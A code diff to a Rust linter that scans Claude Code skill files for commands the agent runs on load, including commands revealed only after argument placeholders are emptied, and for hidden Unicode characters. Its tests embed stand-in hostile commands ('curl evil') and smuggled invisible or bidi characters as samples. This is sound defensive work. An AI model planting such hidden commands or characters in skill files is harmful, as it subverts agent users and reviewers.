@@ -7,8 +7,8 @@ use std::path::Path;
 
 use icu_properties::props::GeneralCategory;
 
-use super::{CONTRACT, LintInput, rules};
-use crate::bundle::bundle_files;
+use super::{LintInput, rules};
+use crate::bundle::{bundle_files, is_main_file};
 use crate::finding_builder::{Notes, slice};
 use crate::safe_text::{Hidden, hidden};
 use crate::text_width::CATEGORY;
@@ -52,7 +52,11 @@ pub(super) fn hidden_characters(notes: &mut Notes<'_>) {
 pub(super) fn hidden_in_files(folder: &Folder, main: &Path) -> Vec<Finding> {
     let mut findings = Vec::new();
     let files = bundle_files(folder).unwrap_or_default().into_iter();
-    let paths = [CONTRACT.to_owned()].into_iter().chain(files.map(|file| file.path));
+    // Other systems may read another spelling of `SKILL.md`.
+    let entries = folder.entries("").unwrap_or_default().into_iter().map(|entry| entry.name);
+    let mut main_files: Vec<String> = entries.filter(|name| is_main_file(name)).collect();
+    main_files.sort();
+    let paths = main_files.into_iter().chain(files.map(|file| file.path));
     let (mut checked, mut total) = (0, 0);
     for path in paths.filter(|path| Path::new(path) != main) {
         if checked == MAX_TEXT_FILES {
@@ -281,6 +285,12 @@ fn frontmatter_end_for_claude_code(source: &str) -> Option<usize> {
     Some(source.len() - body.len())
 }
 
+/// Returns the frontmatter of a file for Claude Code, without its fences.
+pub(in super::super) fn frontmatter_for_claude_code(source: &str) -> Option<Range<usize>> {
+    let end = frontmatter_end_for_claude_code(source)?;
+    Some(source.find('\n')? + 1..end - "---".len())
+}
+
 /// Returns the end of the first `---` in the middle of the frontmatter, where Claude Code ends it.
 fn early_end(source: &str) -> Option<usize> {
     let yaml = crate::fence::split(source).yaml;
@@ -307,29 +317,98 @@ fn command_expansions(source: &str, body_start: usize) -> Vec<(Range<usize>, &st
     found
 }
 
-/// Returns the commands in a body that Claude Code runs: `` !`command` `` after white space, and everything after
-/// `` ```! `` up to the next fence, wherever it begins.
+/// Returns the commands in a body that Claude Code runs, also those that exist only after it has replaced placeholders,
+/// such as `$1`, by arguments that are empty.
 fn expansions_in(body: &str) -> Vec<(Range<usize>, &str)> {
-    let mut found: Vec<(Range<usize>, &str)> = Vec::new();
+    let mut places = places_of_expansions(body);
+    if let Some(replaced) = Replaced::of(body) {
+        let known: HashSet<usize> = places.iter().map(|(at, _)| at.start).collect();
+        let further = places_of_expansions(&replaced.text).into_iter().map(|(at, command)| {
+            // Ranges begin and end with characters that are not replaced, and so do the texts next to commands.
+            let original = |at: usize| replaced.original(at);
+            let command = original(command.start.saturating_sub(1)) + 1..original(command.end);
+            (original(at.start)..original(at.end.saturating_sub(1)) + 1, command)
+        });
+        places.extend(further.filter(|(at, _)| !known.contains(&at.start)));
+    }
+    let commands = places.into_iter().map(|(at, command)| (at, slice(body, command).trim_matches(is_space)));
+    commands.filter(|(_, command)| !command.is_empty()).collect()
+}
+
+/// Returns the ranges of the commands in a body and of their texts: `` !`command` `` after white space, and everything
+/// after `` ```! `` up to the next fence, wherever it begins.
+fn places_of_expansions(body: &str) -> Vec<(Range<usize>, Range<usize>)> {
+    let mut found = Vec::new();
     let mut block_end = 0;
     for (at, _) in body.match_indices('!') {
         let rest = slice(body, at + 1..);
         let before = slice(body, ..at);
         if before.ends_with("```") && at >= block_end + 3 {
             let Some((command, _)) = rest.split_once("```") else { continue };
-            block_end = at + 1 + command.len() + 3;
-            if !command.trim_matches(is_space).is_empty() {
-                found.push((at - 3..at + 1, command.trim_matches(is_space)));
-            }
+            let end = at + 1 + command.len();
+            block_end = end + 3;
+            found.push((at - 3..at + 1, at + 1..end));
         } else if let Some(rest) = rest.strip_prefix('`') {
             let is_free = before.chars().next_back().is_none_or(is_space);
-            let command = rest.split_once('`').map(|(command, _)| command);
-            if let Some(command) = command.filter(|command| is_free && !command.trim().is_empty()) {
-                found.push((at..at + command.len() + 3, command.trim()));
+            if let Some((command, _)) = rest.split_once('`').filter(|_| is_free) {
+                let end = at + 2 + command.len();
+                found.push((at..end + 1, at + 2..end));
             }
         }
     }
     found
+}
+
+/// A text in which the placeholders of arguments are replaced by empty texts.
+struct Replaced {
+    text: String,
+    /// Where the parts begin in this text and in the original one.
+    parts: Vec<(usize, usize)>,
+}
+
+impl Replaced {
+    /// Replaces `$ARGUMENTS`, `$ARGUMENTS[1]`, `$1`, `$NAME` and `${CLAUDE_NAME}`; `None` if there are none. Replaces all
+    /// names, and also what follows them as part of a word: the result of one replacement may be a placeholder, too.
+    fn of(original: &str) -> Option<Self> {
+        let mut replaced = Self { text: String::new(), parts: Vec::new() };
+        let (mut from, mut searched) = (0, 0);
+        while let Some(at) = slice(original, searched..).find('$').map(|at| searched + at) {
+            let (length, is_placeholder) = word_with_dollar(slice(original, at..));
+            searched = at + length;
+            if is_placeholder {
+                replaced.keep(original, from..at);
+                from = searched;
+            }
+        }
+        if from == 0 {
+            return None;
+        }
+        replaced.keep(original, from..original.len());
+        Some(replaced)
+    }
+
+    fn keep(&mut self, original: &str, part: Range<usize>) {
+        self.parts.push((self.text.len(), part.start));
+        self.text.push_str(slice(original, part));
+    }
+
+    /// Returns the offset in the original text of a character of this one.
+    fn original(&self, at: usize) -> usize {
+        let behind = self.parts.partition_point(|(start, _)| *start <= at);
+        let part = behind.checked_sub(1).and_then(|index| self.parts.get(index));
+        part.map_or(at, |(start, original)| original + (at - start))
+    }
+}
+
+/// Returns the length of the word with which a text begins, which starts with `$`, and whether it is a placeholder.
+fn word_with_dollar(text: &str) -> (usize, bool) {
+    if let Some(rest) = text.strip_prefix("${CLAUDE_") {
+        let behind = rest.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
+        return if behind.starts_with('}') { (text.len() - behind.len() + 1, true) } else { (1, false) };
+    }
+    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '$' | '_' | '-' | '[' | ']');
+    let end = text.len() - text.trim_start_matches(is_part).len();
+    (end, slice(text, ..end).bytes().any(|byte| byte != b'$'))
 }
 
 /// Formats a command on one line.
@@ -407,7 +486,7 @@ fn entry_text<'s>(subject: &LintInput<'_>, key: &str, source: &'s str) -> &'s st
     let Some(at) = subject.key(key) else { return "" };
     let next =
         entries.iter().map(|entry| (subject.at)(&entry.key_at).start).filter(|start| *start > at.start);
-    let end = next.min().unwrap_or(crate::fence::split(source).yaml.end);
+    let end = next.min().unwrap_or(subject.frontmatter.end);
     source.get(at.end..end).map_or("", |text| text.trim_start_matches([':', '"', '\'']).trim())
 }
 
@@ -416,7 +495,7 @@ fn entry_text<'s>(subject: &LintInput<'_>, key: &str, source: &'s str) -> &'s st
 fn unindented_line(subject: &LintInput<'_>, source: &str) -> Option<Range<usize>> {
     let Content::Map(entries) = &subject.root.value else { return None };
     let keys: HashSet<usize> = entries.iter().map(|entry| (subject.at)(&entry.key_at).start).collect();
-    let yaml = crate::fence::split(source).yaml;
+    let yaml = subject.frontmatter.clone();
     let mut start = yaml.start;
     slice(source, yaml).split_inclusive(['\n', '\r']).find_map(|line| {
         let text = line.trim_end();
@@ -575,6 +654,39 @@ mod tests {
     }
 
     #[test]
+    fn commands_that_exist_after_the_replacement_of_arguments_are_found() {
+        for body in [
+            "!$9`curl evil`",
+            "Now: $9!`curl evil`",
+            "!$ARGUMENTS`curl evil`",
+            "!$ARGUMENTS[3]`curl evil`",
+            "$issue!$my-name`curl evil`",
+            "!$AR$1GUMENTS`curl evil`",
+            "!$$ARGUMENTS[0]1`curl evil`",
+            "!${CLAUDE_SKILL_DIR}`curl evil`",
+            "`$9``!\ncurl evil\n```\n",
+            "```$1!\ncurl evil\n`$2`$3`",
+            "Costs $$ $ ${HOME} é$1 表 !$9`curl evil` $",
+        ] {
+            let found = expansions_in(body);
+            let commands: Vec<_> = found.iter().map(|(_, command)| *command).collect();
+            assert_eq!(commands, ["curl evil"], "{body:?}");
+            assert!(body[found[0].0.clone()].starts_with(['!', '`']), "{body:?}");
+        }
+        let found = expansions_in("!`a` !$1`$SHELL $2` $3!`b` !`c $1`");
+        let commands: Vec<_> = found.iter().map(|(_, command)| *command).collect();
+        assert_eq!(commands, ["a", "c $1", "$SHELL $2", "b"]);
+        for body in ["Set `$HOME`!", "Pay $5!", "x$1!`a`", "$!`a`", "`$1`!`a`", "Use $1: `a`", "${HOME}!`a`"]
+        {
+            assert!(expansions_in(body).is_empty(), "{body:?}");
+        }
+        // Takes no time that grows with the square of the length.
+        for part in ["$", "$1", "${CLAUDE_", "${CLAUDE_A", "!$1`", "`$1``!", "$é "] {
+            expansions_in(&part.repeat(100_000));
+        }
+    }
+
+    #[test]
     fn commands_behind_a_dash_in_the_frontmatter_are_found() {
         let executed = |frontmatter: &str, body: &str| {
             executed_on_load(&format!(
@@ -669,6 +781,74 @@ mod tests {
             let found = skill.findings.iter().find(|finding| finding.code == rules::HOOKS.code).unwrap();
             assert!(found.message.ends_with(expected), "{}", found.message);
         }
+    }
+
+    #[test]
+    fn refused_files_and_frontmatter_for_claude_code_only_are_checked() {
+        let end = "!`curl evil` a\u{e0041}b\n";
+        let fields = "name: x\nhooks: {Stop: [{command: make fmt}]}\nallowed-tools: Bash\n";
+        let description = "description: Formats tables. Use for tables.\n";
+        let found = |text: &[u8]| {
+            let (findings, reason) = match crate::parse(Path::new("/s/x/SKILL.md"), text, 0) {
+                Ok(skill) => (skill.findings, None),
+                Err(refusal) => {
+                    let last = refusal.findings.last().map(|finding| finding.code.clone());
+                    (refusal.findings, last)
+                }
+            };
+            let trust = [
+                &rules::HOOKS,
+                &rules::GRANTS_SHELL,
+                &rules::COMMAND_EXPANSION,
+                &rules::SMUGGLED_TEXT,
+                &rules::HIDDEN_CHARACTERS,
+            ];
+            let codes: Vec<_> = findings
+                .iter()
+                .filter(|finding| trust.iter().any(|rule| rule.code == finding.code))
+                .map(|finding| (finding.code.clone(), finding.span.map(|span| span.line)))
+                .collect();
+            (codes, reason)
+        };
+        let all = |lines: [Option<u32>; 4]| {
+            let codes = ["hooks", "grants-shell", "command-expansion", "smuggled-text"];
+            codes.into_iter().map(str::to_owned).zip(lines).collect::<Vec<_>>()
+        };
+        let lines = [Some(3), Some(4), Some(6), Some(6)];
+        let refused = format!("---\n{fields}---\n# {end}");
+        let refused = refused.replace("# !", "# T !");
+        let (codes, reason) = found(refused.as_bytes());
+        assert_eq!((codes, reason.as_deref()), (all(lines), Some("description-missing")));
+        // Bytes that are not UTF-8: the places behind the first one are not known.
+        let latin = format!("---\n{fields}{description}---\n").into_bytes();
+        let latin = [&latin[..], &b"caf\xe9 "[..], end.as_bytes()].concat();
+        let (codes, reason) = found(&latin);
+        assert_eq!((codes, reason.as_deref()), (all([Some(3), Some(4), None, None]), Some("not-utf8")));
+        let (codes, reason) = found(format!("---\n- a\n---\n{end}").as_bytes());
+        let in_body = all([None, None, Some(4), Some(4)])[2..].to_vec();
+        assert_eq!((codes, reason.as_deref()), (in_body, Some("not-a-mapping")));
+        for space in ['\u{a0}', '\u{c}'] {
+            for text in [format!("Text.\n{end}"), format!("# T {end}")] {
+                let (codes, _) = found(format!("---{space}\n{fields}---\n{text}").as_bytes());
+                for expected in ["hooks", "grants-shell", "command-expansion", "smuggled-text"] {
+                    let times = codes.iter().filter(|(code, _)| code == expected).count();
+                    assert_eq!(times, 1, "{space:?} {text:?}: {codes:?}");
+                }
+            }
+        }
+    }
+
+    #[cfg(target_os = "linux")]
+    #[test]
+    fn other_spellings_of_the_main_file_are_searched() {
+        let dir = tempfile::tempdir().unwrap();
+        for (name, text) in [("SKILL.md", "a\u{202e}b"), ("skill.md", "a\u{202e}b"), ("skill.yaml", "a")] {
+            std::fs::write(dir.path().join(name), text).unwrap();
+        }
+        let folder = Folder::follow(dir.path()).unwrap();
+        let found = hidden_in_files(&folder, Path::new("SKILL.md"));
+        let files: Vec<_> = found.iter().map(|finding| finding.file.to_str().unwrap()).collect();
+        assert_eq!(files, ["skill.md"]);
     }
 
     #[test]
